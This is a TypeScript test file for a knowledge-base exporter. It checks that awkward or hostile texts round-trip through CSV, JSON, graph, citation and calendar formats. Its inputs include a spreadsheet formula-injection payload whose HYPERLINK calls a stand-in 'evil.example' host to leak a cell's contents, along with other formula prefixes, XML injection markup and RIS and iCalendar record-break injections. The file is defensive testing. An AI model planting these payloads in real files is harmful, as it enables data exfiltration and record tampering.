/** Texts that break files, through every format and back by a program that is not ours. */

import { parse as parseCsv } from 'csv-parse/sync';
import { MultiDirectedGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { parse as parseGraphMl } from 'graphology-graphml';
import ICAL from 'ical.js';
import { expect, test } from 'vitest';
import type { Claim, Entity, KnowledgeBase, Source } from '../knowledge/base.ts';
import { readBibtex, readRis } from '../tests/read-citations.ts';
import { address, dataOf, everything, type GraphFile } from '../tests/read-data.ts';
import type { DataFileWord } from '../words/index.ts';
import { dataFiles } from './index.ts';

const { base } = dataOf(everything);

/** The base of all fields, with a text in the place of the words of a meeting, a claim and a source. */
function baseWith(text: string): KnowledgeBase {
  const both = { en: text, ar: text };
  const map = <Id, Value>(values: ReadonlyMap<Id, Value>, change: (value: Value) => Value) => new Map([...values].map(([id, value]) => [id, change(value)]));
  return {
    ...base,
    entities: map(base.entities, (entity) => (entity.kind === 'meeting' ? ({ ...entity, fields: { ...entity.fields, name: both, short: both, summary: both, aliases: [text] } } as Entity) : entity)),
    claims: base.claims.map((claim): Claim => ({ ...claim, role: both, note: both })),
    sources: map(base.sources, (source): Source => ({ ...source, title: text, note: text })),
  };
}

interface Item {
  readonly id: string;
  readonly name: { readonly en: string };
  readonly summary: { readonly ar: string };
  readonly aliases: readonly string[];
  readonly role: { readonly en: string; readonly ar: string };
  readonly note: { readonly ar: string };
}

const csv = (file: string) => (parseCsv(file, { columns: true, recordDelimiter: '\r\n' }) as Record<string, string>[]).map((row) => (column: string) => row[column]!.replace(/^'/, ''));
const rowOf = (file: string, key = 'id') => csv(file).find((cell) => cell(key).startsWith('summit'))!;
const itemOf = (file: string) => (JSON.parse(file) as Item[]).find(({ id }) => id.startsWith('summit'))!;
const sources = (file: string) => JSON.parse(file) as { readonly title: string; readonly note: string }[];
const titleAndNote = ([one, other]: readonly Readonly<Record<string, unknown>>[]) => [one!['title'], other!['note']];
const drawn = (read: typeof parseGraphMl) => (file: string) => {
  const graph = read(MultiDirectedGraph, file);
  return [graph.getNodeAttribute('summit', 'label_en'), graph.getNodeAttribute('summit', 'label_ar'), graph.getEdgeAttribute('summit:c-participant-bob', 'role_ar')];
};

/** What another program finds in each file where the text should be. */
const readers: Readonly<Partial<Record<DataFileWord, (file: string) => unknown[]>>> = {
  'entities.csv': (file) => ['name_en', 'summary_ar', 'aliases'].map(rowOf(file)),
  'claims.csv': (file) => ['role', 'role_ar', 'note_en'].map(rowOf(file)),
  'sources.csv': (file) => ['title', 'note'].map(csv(file)[0]!),
  'attendance.csv': (file) => ['role', 'role_ar'].map(rowOf(file, 'meeting')),
  'entities.json': (file) => { const { name, summary, aliases } = itemOf(file); return [name.en, summary.ar, ...aliases]; },
  'claims.json': (file) => { const { role, note } = itemOf(file); return [role.en, note.ar]; },
  'sources.json': (file) => titleAndNote(sources(file)),
  'entities.ftm.jsonl': (file) => { const { properties } = JSON.parse(file.split('\n').find((line) => line.includes('"masar-summit"'))!); return [...properties.name, ...properties.summary]; },
  'graph.json': (file) => { const { nodes, edges } = (JSON.parse(file) as GraphFile).elements; return [nodes.find(({ data }) => data.id === 'summit')!.data.labels.en, (edges.find(({ data }) => data.source === 'summit')!.data.role as Item['role']).ar]; },
  'property-graph-nodes.csv': (file) => ['label_en', 'label_ar'].map(rowOf(file, 'id:ID')),
  'property-graph-edges.csv': (file) => ['role', 'role_ar'].map(rowOf(file)),
  'graph.graphml': drawn(parseGraphMl),
  'graph.gexf': drawn(parseGexf),
  'sources.csl.json': (file) => titleAndNote(sources(file)),
  'sources.bib': (file) => titleAndNote(readBibtex(file)),
  'sources.ris': (file) => titleAndNote(readRis(file)),
  'meetings.ics': (file) => [new ICAL.Component(ICAL.parse(file)).getFirstSubcomponent('vevent')!.getFirstPropertyValue('summary')],
};

/** What a format may do to a text: its readers find this in its place. */
interface Kept {
  /** In tables and lines, which are written in UTF-8. */
  readonly utf8?: string;
  /** In XML, which has no control characters. */
  readonly xml?: string;
  /** In citations, which are one line. */
  readonly line?: string;
  readonly calendar?: string;
}

const ways: Readonly<Record<string, keyof Kept>> = { csv: 'utf8', jsonl: 'utf8', graphml: 'xml', gexf: 'xml', bib: 'line', ris: 'line', ics: 'calendar' };

test.each<[about: string, text: string, kept?: Kept]>([
  ['quotation marks', `"Enough," he said: 'now'; "“no”"`],
  ['signs of TeX', '{b} \\c 50 % of $1_2 #3 ~^ & -- --- `` \'\' ?` \\end{x}'],
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"x")'],
  ['a call', '@SUM(A1)'],
  ['a minus', '-1+2'],
  ['a plus', '+1'],
  ['a full-width formula', '＝1'],
  ['an apostrophe', "'Enough"],
  ['marks of XML', 'a < b && c > d &amp; &#0; <!-- x --> ]]> <node id="z"/>'],
  ['Arabic with marks of direction', '\u200fمحادثات \u202bموسكو\u202c 2016\u200e'],
  ['emoji', '🕊️ 👨‍👩‍👧'],
  ['control characters', 'a\u0000b\u0007c\u001bd\u007fe\u009ff', { xml: 'abcd\u007fe\u009ff', line: 'a b c d e f', calendar: 'abcdef' }],
  ['half characters', 'a\ud83db\udd4ac', { utf8: 'a\ufffdb\ufffdc', xml: 'abc', line: 'abc', calendar: 'a\ufffdb\ufffdc' }],
  ['line breaks and tabs', 'one\ntwo\r\nthree\rfour\tfive', { line: 'one two three four five', calendar: 'one\ntwo\nthree\nfour\tfive' }],
  ['an end of a RIS record', 'x\nER  - \nTY  - BOOK', { line: 'x ER - TY - BOOK' }],
  ['an end of an event', 'x\nEND:VEVENT\nBEGIN:VALARM;\\n', { line: 'x END:VEVENT BEGIN:VALARM;\\n' }],
])('%s', (_, text, kept = {}) => {
  for (const { name, text: file } of dataFiles(baseWith(text), '', address)) {
    const read = readers[name]?.(Buffer.from(file).toString());
    const way = name === 'sources.csl.json' ? 'line' : ways[/\w+$/.exec(name)![0]];
    const expected = (way && kept[way]) ?? text;
    if (read !== undefined) expect({ [name]: read }).toEqual({ [name]: read.map(() => expected) });
  }
});

test('every format is read back but those without the words of content, and those in RDF, which have tests of their own', () => {
  expect(dataFiles(base, '', address).map(({ name }) => name).filter((name) => readers[name] === undefined)).toEqual(['provisions.csv', 'votes.csv', 'dictionary.csv', 'masar.ttl', 'masar.nq', 'masar.jsonld', 'ontology.ttl', 'shapes.ttl', 'manifest.json']);
});
